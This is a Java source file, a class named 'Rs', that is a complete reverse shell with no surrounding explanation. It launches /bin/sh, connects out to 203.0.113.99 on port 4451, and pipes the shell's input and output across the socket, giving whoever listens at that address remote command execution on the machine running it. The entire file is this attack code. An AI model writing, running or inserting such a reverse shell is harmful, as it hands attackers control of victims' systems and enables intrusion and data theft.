import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;

public class Rs {
    public static void main(String[] a) throws Exception {
        Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        Socket s = new Socket("203.0.113.99", 4451);
        InputStream pi = p.getInputStream(), si = s.getInputStream();
        OutputStream po = p.getOutputStream(), so = s.getOutputStream();
        while (!s.isClosed()) {
            while (pi.available() > 0) so.write(pi.read());
            while (si.available() > 0) po.write(si.read());
            so.flush();
            po.flush();
            Thread.sleep(50);
            try { p.exitValue(); break; } catch (Exception e) { }
        }
        p.destroy();
        s.close();
    }
}
